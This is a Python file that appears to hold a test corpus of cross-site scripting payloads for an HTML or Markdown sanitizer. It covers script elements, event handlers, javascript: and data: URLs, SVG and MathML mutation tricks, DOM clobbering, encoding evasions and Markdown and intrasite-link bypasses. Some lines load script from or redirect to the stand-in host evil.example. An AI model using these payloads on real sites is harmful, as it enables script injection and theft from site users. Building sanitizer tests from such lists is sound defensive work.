"""Ways to put a script into a page, by the classes that are known. `alert(1)` stands for the script."""

ELEMENTS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src="//evil.example/x.js"></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)
<<script>alert(1)//<</script>
<script type="text/javascript" charset=utf-7>alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<template><p title="</template><img src=x onerror=alert(1)>"></template>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe><img src=x onerror=alert(1)></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<applet code="x"></applet>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<style>*{background:url(javascript:alert(1))}</style>
<style><img src=x onerror=alert(1)></style>
<style>@import '//evil.example/x.css';</style>
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<meta charset=utf-7>
<base href="javascript:alert(1)//">
<base href="https://evil.example/">
<form action="javascript:alert(1)"><button>x</button></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<isindex action=javascript:alert(1) type=image>
<textarea><img src=x onerror=alert(1)></textarea>
<textarea autofocus onfocus=alert(1)>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><img src=x onerror=alert(1)></noframes>
<select onchange=alert(1)><option>1</select>
<select><noembed></select><script x='a@b'a>alert(1)</script>
<video src=x onerror=alert(1)></video>
<video><source onerror="alert(1)"></video>
<audio src=x onerror=alert(1)></audio>
<track src=x onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<dialog open onclose=alert(1)>x</dialog>
<portal src="javascript:alert(1)"></portal>
<slot onslotchange=alert(1)></slot>
<bgsound src="javascript:alert(1)">
<layer src="//evil.example/x.js"></layer>
<xml id=x><a b="&lt;script>alert(1)&lt;/script>"></a></xml>
<xss style="behavior:url(x.htc)">x</xss>
<x contenteditable onblur=alert(1)>x</x>
<x-y is="z" onclick=alert(1)>x</x-y>
<?xml-stylesheet href="javascript:alert(1)"?>
<?php echo '<script>alert(1)</script>' ?>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<![CDATA[<script>alert(1)</script>]]>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>-->
<!-- <!-- --><script>alert(1)</script>
<comment><img src="</comment><img src=x onerror=alert(1)//">
"""

HANDLERS = r'''
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x OnErRoR = alert(1)>
<img src=x onerror	=	alert(1)>
<img """><script>alert(1)</script>">
<img src="x` `<script>alert(1)</script>"` `>
<img src=x:x onerror=alert(1) //
<img src=x onerror="alert(1)"
<img src='x'onerror='alert(1)'>
<img src=x" onerror="alert(1)">
<img alt="x" src=x onerror=`alert(1)`>
<img src=x srcset="javascript:alert(1)">
<img src=x usemap="#m"><map name=m><area href="javascript:alert(1)"></map>
<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<body onload=alert(1)>
<html onmouseover=alert(1)>
<div onmouseover="alert(1)">x</div>
<div/onmouseover='alert(1)'>x
<p onclick=alert(1)>x</p>
<a onmouseover=alert(1)>x</a>
<a href=x onfocus=alert(1) autofocus tabindex=1>x</a>
<details open ontoggle=alert(1)>x</details>
<summary onpointerenter=alert(1)>x</summary>
<b onanimationstart=alert(1) style="animation:x">x</b>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>
<q cite="javascript:alert(1)" oncopy=alert(1)>x</q>
<time onbeforematch=alert(1) hidden=until-found>x</time>
<ol onscroll=alert(1)><li onwheel=alert(1)>x</ol>
'''

ADDRESSES = r"""
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=javascript:alert(1)>x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#106;&#97;vascript:alert(1)">x</a>
<a href="&#x6A&#x61vascript:alert(1)">x</a>
<a href="&#0000106avascript:alert(1)">x</a>
<a href="javascript:&#47;&#47;%0aalert(1)">x</a>
<a href="javascript://evil.example/%0aalert(1)">x</a>
<a href="%6aavascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="DATA:image/svg+xml,<svg onload=alert(1)>">x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="filesystem:https://evil.example/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="jar:https://evil.example/a.jar!/">x</a>
<a href="ms-appx:x">x</a>
<a href="x" target="_blank">x</a>
<a href="x" ping="https://evil.example/">x</a>
<a href="x" download>x</a>
<a xlink:href="javascript:alert(1)">x</a>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<blockquote cite="javascript:alert(1)">x</blockquote>
<del cite="javascript:alert(1)">x</del>
"""

STYLES = r"""
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="position:fixed;inset:0;opacity:0"><a href="https://evil.example/">x</a></div>
<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>
<p class="crosslink" style="x:y">x</p>
<font color=red size="&{alert(1)}">x</font>
"""

FOREIGN = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<svg><p><style><g title="</style><img src=x onerror=alert(1)>"></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)></style></mglyph></form></mtext></math>
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>"></style></h1>
<table><tr><td><svg><td><style><img src=x onerror=alert(1)></style></table>
<b><template><svg><b></template><img src=x onerror=alert(1)>
"""

CLOBBERING = r"""
<a id="location" href="https://evil.example/">x</a>
<a id=x><a id=x name=y href="https://evil.example/">x</a>
<img name=cookie src=x>
<form id=document name=getElementById></form>
<li id="__proto__">x</li>
<sup id="body">x</sup>
<p id=defaultView>x</p>
<div class="crosslink pagefind-ui">x</div>
<span class="admin">x</span>
"""

ENTITIES = r"""
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)
&#60;script&#62;alert(1)&#60;/script&#62;
<img src=x on&#101;rror=alert(1)>
<img src="x" title="&quot; onerror=alert(1) x=&quot;">
<a title='"onmouseover=alert(1) x="' href=x>x</a>
<a title="&#34;&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>
<abbr title="</abbr><img src=x onerror=alert(1)>">x</abbr>
<a title="</p> onmouseover=alert(1) x=">x</a>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
%3Cscript%3Ealert(1)%3C/script%3E
{{ alert(1) }} {% include "x" %} ${alert(1)} <%= alert(1) %>
"""

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](<javascript:alert(1)>)
[x](javascript&#58;alert(1))
[x](java&#10;script:alert(1))
[x](&#x6a;avascript:alert(1))
[x]( javascript:alert(1))
[x](javascript:alert(1) "title")
[x](x "onmouseover=alert(1)")
[x](x '" onmouseover=alert(1) y="')
[x](x" onmouseover="alert(1))
[x](<x" onmouseover="alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD4=)
![x](javascript:alert(1))
![x](x" onerror="alert(1))
![x" onerror="alert(1)](x)
!["><script>alert(1)</script>](x)
![x](x '"><script>alert(1)</script>')
[![x](javascript:alert(1))](javascript:alert(1))
<javascript:alert(1)>
<javascript:alert(1)@x.example>
<"onmouseover=alert(1)"@x.example>
<https://x.example/"onmouseover=alert(1)>
<mailto:x@x.example?body="><script>alert(1)</script>>
x {: onclick="alert(1)" href="javascript:alert(1)" style="x" #location .crosslink }
# x {: onclick=alert(1) }
[x](y){: onclick=alert(1) }
[x](y){: href=javascript:alert(1) }
![x](y){: onerror=alert(1) src=javascript:alert(1) }
`<script>alert(1)</script>`
    <script>alert(1)</script>
<div markdown="1" onclick="alert(1)">[x](javascript:alert(1))</div>
<div markdown=1><script>alert(1)</script></div>
READ: <img src=x onerror=alert(1)>
READ: [x](javascript:alert(1))
READ: <a href="javascript:alert(1)">x</a>
Read <script>alert(1)</script>
READ: [x]({index}javascript:alert(1))
READ: </p><script>alert(1)</script>
READ: [[<script>alert(1)</script>]]
"""

INTRASITE = r"""
[x]({index}javascript:alert(1))
[x]({filename}javascript:alert(1))
[x]({static}javascript:alert(1))
[x]({tag}javascript:alert(1))
[x]({category}javascript:alert(1))
[x]({author}javascript:alert(1))
[x]({attach}javascript:alert(1))
[x](|index|javascript:alert(1))
[x](|filename|javascript:alert(1))
[x]({index|javascript:alert(1))
[x]( {index}javascript:alert(1))
[x]({index} javascript:alert(1))
[x]({index}java&#9;script:alert(1))
[x]({index}&#1;javascript:alert(1))
[x]({unknown}javascript:alert(1))
[x]({}javascript:alert(1))
[x]({x{index}javascript:alert(1))
[x]({index}//evil.example/)
[x]({index}data:text/html,alert)
[x]({filename}/stories/a&amp;b.md?" onmouseover=alert(1) x=")
<a href='{filename}/stories/a&amp;b.md?" onmouseover=alert(1) x="'>x</a>
<a href="{filename}/stories/a&amp;b.md?&quot; onmouseover=alert(1) x=&quot;">x</a>
<a href="{filename}/stories/a&amp;b.md#&quot;><img src=x onerror=alert(1)>">x</a>
<a href="{filename}/stories/a&amp;b.md?&amp;quot; onmouseover=alert(1)">x</a>
<a href="{filename}/stories/a&amp;b.md?&lt;script>alert(1)&lt;/script>">x</a>
<a title="href='{filename}/stories/a&amp;b.md?&quot; onmouseover=alert(1) x='">x</a>
<a title="href='{index}javascript:alert(1)'">x</a>
<a title="href='{index}http://[bad'">x</a>
![href='{filename}/stories/a&amp;b.md?&quot; onerror=alert(1) x='](y.png)
![src='{filename}http://[bad'](y.png)
<img src=x alt="content = '{index}http://[bad'">
<a lang="href='{index}http://[bad'">x</a>
<time datetime="data='{index}http://[bad'">x</time>
[x]({index}http://[bad)
<a title="href=" href="{index}javascript:alert(1)">x</a>
<form action="{index}javascript:alert(1)">x</form>
<blockquote cite="{index}javascript:alert(1)">x</blockquote>
<img src="{static}javascript:alert(1)">
"""

SEVERAL_LINES = [
    "[x]: javascript:alert(1)\n\n[x] [y][x]",
    '[x]: <javascript:alert(1)> "y"\n\n[x]',
    "![x]\n\n[x]: data:text/html,<script>alert(1)</script>",
    '*[x]: "><script>alert(1)</script>\n\nx',
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
    '```"><script>alert(1)</script>\nx\n```',
    "``` { .x onclick=alert(1) }\nx\n```",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
    "<script>alert(1)\n:   <img src=x onerror=alert(1)>",
    '<a href="java\nscript:alert(1)">x</a>',
    "<script\n>alert(1)</script\n>",
]

_BLOCKS = (ELEMENTS, HANDLERS, ADDRESSES, STYLES, FOREIGN, CLOBBERING, ENTITIES, MARKDOWN, INTRASITE)
PAYLOADS = [*(line for block in _BLOCKS for line in block.split("\n") if line), *SEVERAL_LINES]
